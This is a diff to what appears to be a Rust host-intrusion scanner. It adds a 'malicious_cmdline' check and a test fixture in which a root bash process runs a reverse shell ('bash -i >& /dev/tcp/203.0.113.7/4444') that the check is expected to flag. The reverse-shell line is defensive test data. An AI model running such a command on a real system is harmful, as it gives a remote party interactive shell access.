@@ -10,6 +10,7 @@ mod deleted_exe;
 mod fake_kernel_thread;
 mod known_tools;
 mod ld_preload_env;
+mod malicious_cmdline;
 mod miner;
 mod script_in_writable;
 mod service_user_shell;
@@ -27,6 +28,7 @@ pub static ALL: &[&dyn Check] = &[
     &service_user_shell::ServiceUserShell,
     &known_tools::KnownToolName,
     &miner::MinerActivity,
+    &malicious_cmdline::MaliciousCommandLine,
 ];
 
 /// The live scene, or `None` (recording why when /proc could not be read).
@@ -296,6 +298,12 @@ pub(crate) mod fixtures {
         scene
             .processes
             .extend([deleted, kworker, shell, miner, preload, bind]);
+        scene.processes.push(process(
+            4248,
+            "root",
+            "/usr/bin/bash",
+            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
+        ));
         scene.sockets.inet.extend([
             tcp(
                 "10.0.0.5",
@@ -366,6 +374,7 @@ pub(crate) mod fixtures {
             ("process.miner", 4245),
             ("process.ld_preload", 4246),
             ("process.script_writable", 4247),
+            ("process.malicious_cmdline", 4248),
         ];
         for (check, pid) in expect {
             assert!(
